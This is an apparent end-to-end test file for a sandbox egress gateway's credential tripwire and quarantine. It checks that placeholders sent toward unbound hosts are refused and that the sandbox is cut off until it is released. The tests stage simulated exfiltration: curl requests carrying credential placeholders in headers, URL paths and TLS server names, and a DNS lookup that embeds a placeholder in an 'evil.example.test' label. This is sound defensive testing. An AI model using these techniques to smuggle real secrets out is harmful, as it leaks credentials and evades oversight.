/**
 * The tripwire (src/creds/tripwire.ts) and quarantine (src/control/quarantine.ts) end to end: a
 * credential's placeholder sent where the credential is not bound (plain HTTP, an intercepted
 * host, a DNS name) is refused with a `tripwire` line; under `onTripwire: quarantine` the
 * sandbox is then cut off (connections, DNS) until the control API releases it. Serial: a
 * quarantine cuts off the whole sandbox, which every test here shares.
 */
import test from 'ava';
import { randomBytes } from 'node:crypto';
import { join } from 'node:path';
import { createWorld, startGate, baseConfig, NAMES, CLI, ROOT, LineLog, type World, type Gate, type Line } from '../helpers/gate.js';
import type { ExecResult } from '../../src/demo/topology.js';

let w: World;
let g: Gate;

/** Credential k is injected for api.example.test; o is injected nowhere in this policy. */
const PH_K = 'sk-sandgate-k-placeholder-01';
const PH_O = 'PH-Other-Credential-77';
const SECRET_K = `secret-k-${randomBytes(8).toString('hex')}`;
const SECRET_O = `secret-o-${randomBytes(8).toString('hex')}`;

const sock = (): string => join(w.dir, 'control.sock');
const caPem = (): string => join(w.dir, 'ca', 'ca.pem');

function config(onTripwire?: 'deny' | 'quarantine', workers?: number): Record<string, unknown> {
  const base = baseConfig(w, {
    allow: [
      { host: 'api.example.test', inject: 'k' },
      { host: 'x.wild.example.test', methods: ['GET', 'POST'] },
      { host: 'plain.example.test', ports: [80] },
      { host: 'wild.example.test' },
    ],
    upstream: { hosts: Object.fromEntries(NAMES.map((n) => [n, w.a])), caFile: w.pki.caFile },
  });
  const policies = base.policies as { default: Record<string, unknown> };
  return {
    ...base,
    policies: { default: { ...policies.default, ...(onTripwire ? { onTripwire } : {}) } },
    credentials: {
      k: { secret: { env: 'SG_TEST_K' }, placeholder: PH_K },
      o: { secret: { env: 'SG_TEST_O' }, placeholder: PH_O, header: 'X-Other' },
    },
    ...(workers ? { workers } : {}),
  };
}

const ENV = { SG_TEST_K: SECRET_K, SG_TEST_O: SECRET_O };

test.before(async () => {
  w = await createWorld();
  g = await startGate(w.topo, w.dir, config(), 'sandgate.json', { env: ENV });
});

test.after.always(async () => {
  g?.proc.kill('SIGKILL');
  await w?.cleanup();
});

/** Every name the tests use, at a's address: connections reach sandgate without asking its DNS (a quarantine refuses that too). */
const resolves = (): string[] =>
  ['plain.example.test:80', 'api.example.test:443', 'x.wild.example.test:443', 'wild.example.test:443'].flatMap((n) => ['--resolve', `${n}:${w.a}`]);

/** curl in the sandbox trusting `ca` (default sandgate's CA, for intercepted hosts), printing the status last. */
function curl(args: string[], ca = caPem()): Promise<ExecResult> {
  return w.topo.exec(w.sandbox, 'curl', ['-sS', '--max-time', '5', '--cacert', ca, ...resolves(), '-w', '\n%{http_code}', ...args], { timeoutMs: 8000 });
}
const status = (r: ExecResult): string => r.stdout.split('\n').at(-1) ?? '';

async function dig(name: string): Promise<string> {
  const r = await w.topo.exec(w.sandbox, 'dig', ['+tries=1', '+time=3', '+noall', '+comments', name], { timeoutMs: 8000 });
  return /status: (\w+)/.exec(r.stdout)?.[1] ?? `no reply (${r.code}): ${r.stdout}${r.stderr}`;
}

const tripLine = (pred: (l: Line) => boolean, what: string): Promise<Line> => g.log.waitFor((l) => l.event === 'tripwire' && pred(l), 5000, what);
const upstreamSaw = (i: number, path: string): boolean => w.upstreams[i]!.log.lines.some((l) => (l.request as Line | undefined)?.path === path);
const A_TLS = 0;
const A_PLAIN = 2;

test.serial('plain HTTP: a placeholder in a header toward an unrelated allowed host is refused (403) with a tripwire line; nothing reaches it', async (t) => {
  const r = await curl(['-H', `X-Note: please keep ${PH_K} safe`, 'http://plain.example.test/tw-plain']);
  t.is(status(r), '403', r.stdout + r.stderr);
  t.regex(r.stdout, /tripwire: the placeholder of credential \\"k\\" in the header X-Note toward plain.example.test/);
  const line = await tripLine((l) => l.path === '/tw-plain', 'tripwire line /tw-plain');
  t.like(line, { decision: 'deny', status: 403, credential: 'k', host: 'plain.example.test', proto: 'http', sandbox: 'agent', onTripwire: 'deny' });
  t.false(JSON.stringify(line).includes(SECRET_K), 'the secret is on no line');
  t.false(upstreamSaw(A_PLAIN, '/tw-plain'), 'the upstream saw nothing');
});

test.serial('plain HTTP: a placeholder in the request target (percent-encoded too) is refused', async (t) => {
  const enc = PH_O.replace(/-/g, '%2D');
  const r = await curl([`http://plain.example.test/tw-url?k=${enc}`]);
  t.is(status(r), '403');
  t.like(await tripLine((l) => l.path === '/tw-url', 'tripwire line /tw-url'), {
    credential: 'o',
    reason: 'tripwire: the placeholder of credential "o" in the request target toward plain.example.test, where that credential is not bound',
  });
  t.false(upstreamSaw(A_PLAIN, '/tw-url'));
});

test.serial("an intercepted host: another credential's placeholder is refused; the bound credential's own is replaced and passes", async (t) => {
  const other = await curl(['-H', `Authorization: Bearer ${PH_O}`, 'https://api.example.test/tw-icpt-other']);
  t.is(status(other), '403', other.stdout + other.stderr);
  t.like(await tripLine((l) => l.path === '/tw-icpt-other', 'tripwire line'), { credential: 'o', proto: 'tls', host: 'api.example.test' });
  t.false(upstreamSaw(A_TLS, '/tw-icpt-other'));
  const own = await curl(['-H', `X-Key: ${PH_K}`, 'https://api.example.test/tw-icpt-own']);
  t.is(status(own), '200', own.stdout + own.stderr);
  t.true(upstreamSaw(A_TLS, '/tw-icpt-own'));
});

test.serial('an intercepted host without a credential: a placeholder in the URL is refused', async (t) => {
  const r = await curl([`https://x.wild.example.test/upload/${PH_K}`]);
  t.is(status(r), '403', r.stdout + r.stderr);
  t.like(await tripLine((l) => l.host === 'x.wild.example.test', 'tripwire line x.wild'), { credential: 'k', proto: 'tls', decision: 'deny' });
  t.false(upstreamSaw(A_TLS, `/upload/${PH_K}`));
});

test.serial('DNS: a placeholder in a name, any case, embedded in a label, is REFUSED with a tripwire line', async (t) => {
  const name = `x${PH_K.toUpperCase()}y.evil.example.test`;
  t.is(await dig(name), 'REFUSED');
  t.like(await tripLine((l) => l.proto === 'dns', 'dns tripwire line'), { credential: 'k', decision: 'deny', rcode: 'REFUSED', sandbox: 'agent' });
  t.is(await dig('api.example.test'), 'NOERROR', 'without onTripwire: quarantine nothing else changes');
});

/** `sandgate sandbox ...` against the world's control socket. */
function cli(args: string[]): Promise<ExecResult> {
  return w.topo.exec(w.topo.hostNs, process.execPath, [CLI, 'sandbox', ...args, '--socket', sock()], { timeoutMs: 10000 });
}

/** test/helpers/hold-client.mjs: one TLS connection to wild.example.test (passthrough) it never closes. */
function holdOpen(): LineLog {
  const proc = w.topo.spawn(w.sandbox, process.execPath, [
    join(ROOT, 'test/helpers/hold-client.mjs'),
    '--connect',
    w.a,
    '--host',
    'wild.example.test',
    '--ca',
    w.pki.caFile,
  ]);
  const log = new LineLog();
  log.attach(proc);
  return log;
}

test.serial(
  'TLS: a placeholder in the SNI (an address known, no DNS query) is a tripwire: access_denied alert, a tripwire line, nothing relayed',
  async (t) => {
    const name = `${PH_O.toLowerCase()}.wild.example.test`;
    const r = await w.topo.exec(
      w.sandbox,
      'curl',
      ['-sS', '--max-time', '5', '--cacert', w.pki.caFile, '--resolve', `${name}:443:${w.a}`, '-w', '\n%{http_code}', `https://${name}/tw-sni`],
      { timeoutMs: 8000 },
    );
    t.is(status(r), '000');
    t.regex(r.stderr, /tlsv1 alert access denied/);
    const line = await tripLine((l) => l.proto === 'tls' && l.host === name, 'tripwire line for the SNI');
    t.like(line, { decision: 'deny', credential: 'o', onTripwire: 'deny' });
    t.regex(String(line.reason), /in the TLS server name/);
    t.false(upstreamSaw(A_TLS, '/tw-sni'));
  },
);

test.serial('onTripwire: quarantine: the tripwire cuts the sandbox off (open connection closed, allowed hosts and DNS refused) until released', async (t) => {
  t.is((await g.reload(config('quarantine'))).action, 'reloaded');
  try {
    const held = holdOpen();
    await held.waitFor((l) => l.event === 'response', 5000, 'the held connection answered');
    t.is(status(await curl(['https://wild.example.test/before'], w.pki.caFile)), '200', 'a passthrough host works before');

    const trip = await curl(['-H', `X-Note: ${PH_K}`, 'http://plain.example.test/tw-quarantine']);
    t.is(status(trip), '403', 'the request that tripped it still gets its answer');
    t.like(await tripLine((l) => l.path === '/tw-quarantine', 'tripwire line'), { onTripwire: 'quarantine' });
    const q = await g.log.waitFor((l) => l.event === 'quarantine' && l.action === 'start', 5000, 'quarantine line');
    t.like(q, { sandbox: 'agent', credential: 'k' });
    t.like(await held.waitFor((l) => l.event === 'closed', 5000, 'the held connection closed'), { event: 'closed' });

    const cut = await curl(['https://wild.example.test/during'], w.pki.caFile);
    t.is(status(cut), '000', 'an allowed host is refused');
    t.regex(cut.stderr, /tlsv1 alert access denied/, 'with a TLS alert the client can read');
    const plain = await curl(['http://plain.example.test/during']);
    t.is(status(plain), '403');
    t.regex(plain.stdout, /"reason":"quarantined"/);
    t.false(upstreamSaw(A_PLAIN, '/during'));
    t.truthy(await g.log.waitFor((l) => l.event === 'conn' && l.reason === 'quarantined', 5000, 'conn line quarantined'));
    t.is(await dig('api.example.test'), 'REFUSED', 'DNS too');
    t.truthy(await g.log.waitFor((l) => l.event === 'dns' && l.reason === 'quarantined', 5000, 'dns line quarantined'));
    t.is((await g.reload(config('quarantine'))).action, 'reloaded');
    t.is(await dig('api.example.test'), 'REFUSED', 'a reload keeps the quarantine');

    const ls = await cli(['quarantined', '--json']);
    t.is(ls.code, 0, ls.stderr);
    const list = JSON.parse(ls.stdout) as Line[];
    t.is(list.length, 1);
    t.like(list[0], { sandbox: 'agent', credential: 'k' });
    t.false(ls.stdout.includes(SECRET_K));

    const rel = await cli(['release', 'agent']);
    t.is(rel.code, 0, rel.stderr);
    t.regex(rel.stdout, /^released sandbox agent/);
    t.like(await g.log.waitFor((l) => l.event === 'quarantine' && l.action === 'release', 5000, 'release line'), { sandbox: 'agent' });
    const again = await cli(['release', 'agent']);
    t.is(again.code, 2, 'not quarantined any more: refused');

    t.is(status(await curl(['https://wild.example.test/after'], w.pki.caFile)), '200', 'and works again after the release');
    t.is(await dig('api.example.test'), 'NOERROR');
  } finally {
    t.is((await g.reload(config())).action, 'reloaded');
  }
});

test.serial('workers: 2: a quarantine tripped in one worker refuses new connections in every worker until released', async (t) => {
  g.proc.kill('SIGKILL');
  await new Promise((r) => setTimeout(r, 200));
  g = await startGate(w.topo, w.dir, config('quarantine', 2), 'sandgate-workers.json', { env: ENV });
  t.is(g.log.find((l) => l.event === 'ready')?.workers, 2);
  // Tripped inside intercepted TLS this time: the 403 still reaches the client as the quarantine closes everything.
  const trip = await curl(['-H', `Authorization: Bearer ${PH_O}`, 'https://api.example.test/tw-workers']);
  t.is(status(trip), '403', trip.stdout + trip.stderr);
  const line = await tripLine((l) => l.path === '/tw-workers', 'tripwire line from a worker');
  t.is(typeof line.worker, 'number', 'written by a worker');
  t.like(await g.log.waitFor((l) => l.event === 'quarantine' && l.action === 'start', 5000, 'quarantine line'), {
    sandbox: 'agent',
    user: 'alice',
    credential: 'o',
  });
  t.is(typeof g.log.find((l) => l.event === 'quarantine')?.worker, 'undefined', 'written once, by the primary');
  // Round robin: four connections reach both workers; every one is refused.
  for (let i = 0; i < 4; i++) t.is(status(await curl([`http://plain.example.test/tw-workers-${i}`])), '403', `connection ${i}`);
  const refused = g.log.lines.filter((l) => l.event === 'conn' && l.reason === 'quarantined');
  t.is(new Set(refused.map((l) => l.worker)).size, 2, 'both workers refused');
  t.is((await cli(['release', 'agent'])).code, 0);
  // The release reaches both workers: four connections, all answered.
  for (let i = 0; i < 4; i++) t.is(status(await curl([`http://plain.example.test/tw-workers-after-${i}`])), '200', `after release ${i}`);
});
